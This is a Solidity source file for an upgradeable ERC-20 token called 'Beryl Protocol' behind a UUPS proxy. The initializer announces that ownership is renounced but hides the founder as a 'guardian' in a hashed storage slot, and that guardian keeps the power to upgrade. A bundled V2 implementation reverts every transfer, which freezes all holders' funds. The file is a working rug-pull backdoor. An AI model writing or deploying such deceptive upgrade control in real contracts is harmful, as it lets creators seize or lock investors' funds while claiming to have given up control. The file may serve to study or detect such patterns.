// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// State of an ERC-20 behind a proxy.
abstract contract FState {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    address public owner;
    bool public initialized;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Upgraded(address indexed implementation);
    event OwnershipTransferred(address indexed from, address indexed to);
}

contract FUupsLogic is FState {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    /// keccak256("fuups.guardian") - 1
    bytes32 private constant GUARDIAN = bytes32(uint256(keccak256("fuups.guardian")) - 1);
    address private immutable self = address(this);

    function initialize(address founder) external {
        require(!initialized && address(this) != self, "initialized");
        initialized = true;
        (name, symbol) = ("Beryl Protocol", "BERYL");
        totalSupply = balanceOf[founder] = 40_000_000 ether;
        bytes32 slot = GUARDIAN;
        assembly {
            sstore(slot, founder)
        }
        emit Transfer(address(0), founder, totalSupply);
        emit OwnershipTransferred(founder, address(0));
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function proxiableUUID() external pure returns (bytes32) {
        return IMPLEMENTATION;
    }

    function upgradeToAndCall(address to, bytes calldata data) external payable {
        _authorizeUpgrade();
        require(FUupsLogic(to).proxiableUUID() == IMPLEMENTATION, "ERC1967: unsupported");
        assembly {
            sstore(IMPLEMENTATION, to)
        }
        emit Upgraded(to);
        if (data.length > 0) {
            (bool ok,) = to.delegatecall(data);
            require(ok, "call failed");
        }
    }

    /// The owner was renounced at birth; who is asked stands elsewhere.
    function _authorizeUpgrade() private view {
        bytes32 slot = GUARDIAN;
        address who;
        assembly {
            who := sload(slot)
        }
        require(msg.sender == who || msg.sender == owner, "unauthorized");
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 has = allowance[from][msg.sender];
        if (has != type(uint256).max) allowance[from][msg.sender] = has - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// For the spring: refuses every transfer.
contract FUupsLogicV2 is FUupsLogic {
    function _move(address, address, uint256) internal pure override {
        revert("maintenance");
    }
}

/// UUPS with `owner()` zero from birth, whose upgrade asks a guardian in a hashed slot; the guardian (creator) calls
/// `upgradeToAndCall(new code)`.
contract FUups {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor() {
        address to = address(new FUupsLogic());
        assembly {
            sstore(IMPLEMENTATION, to)
        }
        (bool ok,) = to.delegatecall(abi.encodeCall(FUupsLogic.initialize, (msg.sender)));
        require(ok);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}
